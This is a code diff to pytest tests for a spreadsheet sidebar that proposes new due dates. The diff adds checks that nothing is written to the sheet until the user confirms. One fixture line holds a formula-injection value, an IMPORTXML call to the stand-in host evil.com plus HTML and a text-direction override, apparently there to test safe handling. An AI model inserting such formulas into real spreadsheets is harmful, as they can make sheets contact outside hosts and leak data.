@@ -11,6 +11,7 @@ import pytest
 from tests.running import PlanSheet, eventually, running_demo
 from tests.sidebar import Sidebar
 
+REVIEW = "SOC 2 and penetration test review"
 FORMULA = '=IMPORTXML("https://evil.example") <b>🚀</b> \u202eabc'
 
 
@@ -55,21 +56,33 @@ def test_an_answer_stands_in_the_sheet_within_a_second_and_the_next_question_fol
     eventually(lambda: "economic buyer" not in sheet.outlook())
 
 
+def dues(sheet: PlanSheet) -> dict[str, str]:
+    return {name: row["Due"] for name, row in sheet.rows().items()}
+
+
 def test_a_service_level_shows_the_new_dates_and_writes_them_only_when_told_to(
     sidebar: Sidebar, sheet: PlanSheet
 ) -> None:
-    before = sheet.rows()
+    before = dues(sheet)
     sidebar.click("questions/answer", {"days": "x"}, question="takes:security-review", done="1")
     assert "whole number" in sidebar.text
     sidebar.click("questions/answer", {"days": "60"}, question="takes:security-review", done="1")
     assert "Nothing is written until you say so" in sidebar.text
-    assert sheet.rows() == before
+    assert dues(sheet) == before
+
+    use = sidebar.button("Use these dates")
+    row = next(name for name in before if name != REVIEW and f"'{name}'" in sidebar.text)
+    sheet.set(row, "Due", "2027-03-03")
+    before = dues(sheet)
+    sidebar.click(use[0], {}, **use[1])
+    assert "Nothing was written" in sidebar.text
+    assert dues(sheet) == before
 
     shown = sidebar.text
     sidebar.press("Use these dates")
-    after = sheet.rows()
+    after = dues(sheet)
     assert "The new dates stand in the plan" in sidebar.text
-    moved = {name for name, row in after.items() if row["Due"] != before[name]["Due"]}
+    moved = {name for name, due in after.items() if due != before[name]}
     assert moved
     assert all(name in shown for name in moved)
     sidebar.click("questions")
